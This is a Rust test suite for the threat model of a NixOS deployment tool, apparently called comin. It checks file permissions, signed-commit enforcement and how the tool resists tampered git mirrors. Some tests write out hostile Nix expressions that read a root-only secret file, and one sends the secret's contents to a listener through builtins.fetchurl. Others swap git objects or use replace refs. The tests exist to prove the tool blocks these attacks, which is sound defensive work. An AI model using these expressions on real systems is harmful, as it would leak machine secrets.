//! What other users of the machine, hostile commits and whoever can write to the mirror cannot do.

use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread;

use serde_json::json;

use crate::selection::{sign, trusted_signer};
use crate::support::{is_root, isolated, skip, Said};
use crate::world::{Repository, System, World};

/// The files and folders below a path, each with its mode.
fn modes(path: &Path) -> Vec<(String, u32)> {
    let mut find = Command::new("find");
    find.arg(path).args(["!", "-type", "l", "-print"]);
    let found = String::from_utf8(find.output().unwrap().stdout).unwrap();
    let mode = |path: &str| fs::metadata(path).unwrap().permissions().mode() & 0o777;
    let lines = found.lines();
    lines.map(|path| (path.to_string(), mode(path))).collect()
}

#[test]
fn files_have_the_same_modes_whatever_the_umask() {
    need!("git", "nix");
    for umask in ["000", "077"] {
        let (world, _) = World::new();
        for arguments in [&["run"][..], &["suspend"], &["status"]] {
            let comin = world.command(arguments);
            let mut shell = Command::new("sh");
            let script = format!("umask {umask}; exec \"$0\" \"$@\"");
            shell.args(["-c", &script]).arg(comin.get_program());
            shell.args(comin.get_args());
            let variables = comin.get_envs();
            shell.envs(variables.filter_map(|(name, value)| Some((name, value?))));
            let said = Said::of(&shell.output().unwrap());
            assert_eq!(said.code, Some(0), "{said:?}");
        }
        for folder in ["root/var/lib/comin", "root/run/comin"] {
            for (path, mode) in modes(&world.path(folder)) {
                assert_eq!(mode & 0o022, 0, "umask {umask}: others may write {path}");
            }
        }
        for file in ["state.json", "suspended.json", "repository/HEAD"] {
            let file = world.path("root/var/lib/comin").join(file);
            let mode = file.metadata().unwrap().permissions().mode();
            assert_eq!(mode & 0o444, 0o444, "umask {umask}: {}", file.display());
        }
    }
}

#[test]
fn signed_commit_counts_if_the_folder_for_temporary_files_is_full() {
    need!("git", "nix", "ssh-keygen");
    if !is_root() {
        skip("only root has a folder that nobody else can fill");
        return;
    }
    let (mut world, origin) = World::new();
    let key = trusted_signer(&mut world, "alice");
    sign(&origin, &key);
    let signed = origin.commit("signed", &System::default());
    world.comin(&["fetch", "origin"], 0);
    let mut status = world.command(&["status", "--json"]);
    // Nothing can be written there.
    status.env("TMPDIR", "/dev/null");
    let said = Said::of(&status.output().unwrap());
    let status: serde_json::Value = serde_json::from_str(&said.out).unwrap();
    assert_eq!(status["selected"]["commit"], signed, "{said:?}");
    let private = world.path("root/run/comin/private");
    let mode = private.metadata().unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o700);
    assert_eq!(fs::read_dir(private).unwrap().count(), 0);
}

/// A machine whose deployments somebody has to confirm, and a file that only root may read.
fn guarded() -> (World, Repository, PathBuf) {
    let (mut world, origin) = World::new();
    world.configure(|config| config["build_confirmer"] = json!({"mode": "manual"}));
    let secret = world.path("secret");
    fs::create_dir(&secret).unwrap();
    // The name of its store path depends on that.
    fs::write(secret.join("key"), secret.to_str().unwrap()).unwrap();
    (world, origin, secret)
}

/// Whether Nix has a copy of a folder in its store, and under which name.
fn is_in_store(folder: &Path, name: &str) -> bool {
    let mut hash = Command::new("nix-hash");
    hash.args(["--type", "sha256"]).arg(folder);
    let hash = String::from_utf8(hash.output().unwrap().stdout).unwrap();
    let mut print = Command::new("nix-store");
    print.args(["--print-fixed-path", "--recursive", "sha256"]);
    let path = print.args([hash.trim(), name]).output().unwrap();
    let path = String::from_utf8(path.stdout).unwrap();
    assert!(path.starts_with("/nix/store/"), "{path}");
    Path::new(path.trim()).exists()
}

#[test]
fn commit_that_waits_for_a_confirmation_has_read_no_file_of_the_machine() {
    need!("git", "nix");
    let (world, origin, secret) = guarded();
    let system = origin.configuration("", "thief", &System::default());
    let secret = secret.to_str().unwrap();
    let hash = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
    let url =
        format!("builtins.fetchurl {{ url = \"file://{secret}/key\"; sha256 = \"{hash}\"; }}");
    for (flake, says) in [
        (
            format!("{{ inputs.x.url = \"path:{secret}\"; inputs.x.flake = false; outputs = {{ self, x }}: {{ nixosConfigurations.m.config = {system}; }}; }}"),
            "input 'x' in pure mode",
        ),
        (
            format!("{{ outputs = _: {{ nixosConfigurations.m.config = builtins.seq (builtins.readFile ({url})) ({system}); }}; }}"),
            "is forbidden in",
        ),
    ] {
        fs::write(origin.path.join("flake.nix"), flake).unwrap();
        origin.commit_all("thief");
        let said = world.comin(&["run"], 1);
        assert!(said.err.contains(says), "{said:?}");
        assert!(!is_in_store(Path::new(secret), "source"), "{said:?}");
        assert!(!is_in_store(&Path::new(secret).join("key"), "key"), "{said:?}");
    }
    origin.commit("honest", &System::default());
    world.comin(&["run"], 0);
    assert_eq!(world.status()["phase"], "waiting_for_confirmation");
}

#[test]
fn repository_without_a_flake_sends_no_file_of_the_machine_away() {
    need!("git", "nix");
    let (mut world, origin, secret) = guarded();
    world.configure(|config| config["repository_type"] = "nix".into());
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let system = origin.configuration("", "thief", &System::default());
    let file = secret.join("key");
    let away = server.local_addr().unwrap();
    let is_told = Arc::new(AtomicBool::new(false));
    let told = is_told.clone();
    thread::spawn(move || {
        for _hung_up in server.incoming() {
            told.store(true, Ordering::SeqCst);
        }
    });
    let send = format!(
        "builtins.fetchurl \"http://{away}/${{builtins.readFile {}}}\"",
        file.display()
    );
    let expression = format!("{{ config = builtins.seq ({send}) ({system}); }}");
    fs::write(origin.path.join("default.nix"), expression).unwrap();
    origin.commit_all("thief");
    let said = world.comin(&["run"], 1);
    assert!(
        said.err
            .contains("with signatures or confirmers, a configuration may read no files"),
        "{said:?}"
    );
    assert!(!is_told.load(Ordering::SeqCst), "{said:?}");

    // Its own files, and what the search path leads to by links, may be read.
    let nixpkgs = world.path("nixpkgs");
    fs::create_dir(&nixpkgs).unwrap();
    fs::write(nixpkgs.join("default.nix"), "\"honest\"").unwrap();
    std::os::unix::fs::symlink(&nixpkgs, world.path("link")).unwrap();
    let system = origin.configuration("", "honest", &System::default());
    let expression = format!("{{ config = assert import <nixpkgs> == \"honest\"; {system}; }}");
    fs::write(origin.path.join("default.nix"), expression).unwrap();
    origin.commit_all("honest");
    let mut run = world.command(&["run"]);
    run.env(
        "NIX_PATH",
        format!("nixpkgs={}", world.path("link").display()),
    );
    let said = Said::of(&run.output().unwrap());
    assert_eq!(said.code, Some(0), "{said:?}");
    assert_eq!(
        world.status()["phase"],
        "waiting_for_confirmation",
        "{said:?}"
    );
}

/// A machine that deploys only signed commits, and has fetched one into its mirror; and an unsigned one.
fn signed() -> (World, Repository, String, String) {
    let (mut world, origin) = World::new();
    let key = trusted_signer(&mut world, "alice");
    sign(&origin, &key);
    let signed = origin.commit("signed", &System::default());
    origin.git(&["config", "commit.gpgSign", "false"]);
    origin.git(&["checkout", "--quiet", "-b", "other"]);
    let unsigned = origin.commit("unsigned", &System::default());
    world.comin(&["fetch", "origin"], 0);
    let mirror = Repository::at(&world, "root/var/lib/comin/repository");
    mirror.git(&[
        "fetch",
        "--quiet",
        origin.path.to_str().unwrap(),
        "other:other",
    ]);
    (world, mirror, signed, unsigned)
}

#[test]
fn signed_commit_is_deployed_and_not_its_replacement() {
    need!("git", "nix", "ssh-keygen");
    let (world, mirror, signed, unsigned) = signed();
    mirror.git(&["replace", &signed, &unsigned]);
    world.comin(&["deploy"], 0);
    assert_eq!(world.running(), "signed");
}

#[test]
fn file_that_is_not_the_signed_one_is_not_deployed_and_the_mirror_is_made_anew() {
    need!("git", "nix", "ssh-keygen");
    let (world, mirror, signed, unsigned) = signed();
    // Loose objects, of which one has the content of another.
    let packs = mirror.path.join("objects/pack");
    let aside = world.path("packs");
    fs::rename(&packs, &aside).unwrap();
    fs::create_dir(&packs).unwrap();
    let unpack = format!(
        "for pack in {}/*.pack; do git unpack-objects -q <$pack; done",
        aside.display()
    );
    let mut shell = Command::new("sh");
    let unpacked = shell
        .args(["-ec", &unpack])
        .current_dir(&mirror.path)
        .status();
    assert!(unpacked.unwrap().success());
    let object = |commit: &str| {
        let id = mirror.git(&["rev-parse", &format!("{commit}:flake.nix")]);
        let (folder, file) = id.split_at(2);
        mirror.path.join("objects").join(folder).join(file)
    };
    fs::remove_file(object(&signed)).unwrap();
    fs::copy(object(&unsigned), object(&signed)).unwrap();
    let said = world.comin(&["deploy"], 1);
    assert!(
        said.err.contains("The mirror is damaged and is made anew"),
        "{said:?}"
    );
    assert_eq!(world.switches(), [""; 0]);
    world.comin(&["run"], 0);
    assert_eq!(world.running(), "signed");
}

#[test]
fn mirror_that_git_cloned_is_used_for_what_is_signed() {
    need!("git", "nix", "ssh-keygen");
    let (world, mirror, signed, unsigned) = signed();
    let origin = Repository::at(&world, "origin");
    origin.git(&["replace", &signed, &unsigned]);
    fs::remove_dir_all(&mirror.path).unwrap();
    origin.git(&[
        "clone",
        "--quiet",
        "--mirror",
        ".",
        mirror.path.to_str().unwrap(),
    ]);
    world.comin(&["run"], 0);
    assert_eq!(world.running(), "signed");
}

#[test]
fn mirror_with_objects_or_a_history_from_elsewhere_is_made_anew() {
    need!("git");
    for file in ["objects/info/alternates", "info/grafts", "shallow"] {
        let (world, origin) = World::new();
        world.comin(&["fetch", "origin"], 0);
        let file = world.path("root/var/lib/comin/repository").join(file);
        fs::create_dir_all(file.parent().unwrap()).unwrap();
        fs::write(&file, "").unwrap();
        origin.commit("second", &System::default());
        let said = world.comin(&["fetch", "origin"], 0);
        assert!(said.err.contains("which comin never makes"), "{said:?}");
        assert!(!file.exists());
    }
}

#[test]
fn pkexec_may_give_four_orders_and_choose_no_configuration() {
    let world = World::empty();
    let command = |arguments: &[&str]| {
        let mut comin = Command::new(env!("CARGO_BIN_EXE_comin"));
        isolated(&mut comin, &world.path("home"));
        comin.env("PKEXEC_UID", "1000").args(arguments);
        comin
    };
    let by_pkexec =
        |arguments: &[&str]| Said::of(&command(arguments).env_remove("SHLVL").output().unwrap());
    let (root, config) = (world.root(), world.path("config.json"));
    let (root, config) = (root.to_str().unwrap(), config.to_str().unwrap());
    for arguments in [
        &["--config", config, "confirm"][..],
        &["retry", "--root", root],
        &[
            "credential",
            "--origin",
            "o",
            "--username",
            "u",
            "--token",
            config,
            "get",
        ],
        &["check-config", config],
        &["generate", root],
        &["rollback"],
        &["status"],
    ] {
        let said = by_pkexec(arguments);
        assert_eq!(said.code, Some(2), "{said:?}");
        assert!(said.err.contains("use sudo"), "{said:?}");
    }
    for order in ["confirm", "retry", "suspend", "resume"] {
        let said = by_pkexec(&[order, "--help"]);
        assert_eq!(said.code, Some(0), "{said:?}");
    }
    // In a root shell that pkexec has started, comin is root's.
    let mut generate = command(&["generate", root]);
    let said = Said::of(&generate.env("SHLVL", "1").output().unwrap());
    assert_eq!(said.code, Some(0), "{said:?}");
    // A script around comin has one, too.
    let mut confirm = command(&["--config", config, "confirm"]);
    let said = Said::of(&confirm.env("SHLVL", "1").output().unwrap());
    assert_eq!(said.code, Some(2), "{said:?}");
}

#[test]
fn threat_model_names_tests_that_exist() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut tests = String::new();
    for folder in ["tests/scratch", "tests/host"] {
        for file in fs::read_dir(root.join(folder)).unwrap() {
            let file = file.unwrap().path();
            tests += &fs::read_to_string(file).unwrap_or_default();
        }
    }
    let page = fs::read_to_string(root.join("module/docs/security.md")).unwrap();
    let model = page.split("## ").find(|it| it.starts_with("Threat model"));
    let rows = model.unwrap().lines().filter(|line| line.starts_with('|'));
    let cells = rows.skip(2).map(|row| row.split('|').nth(5).unwrap());
    for cell in cells {
        let names: Vec<&str> = cell.split('`').skip(1).step_by(2).collect();
        assert!(!names.is_empty(), "no test shows {cell:?}");
        for name in names {
            assert!(
                tests.contains(&format!("fn {name}(")),
                "no test is called {name}"
            );
        }
    }
}
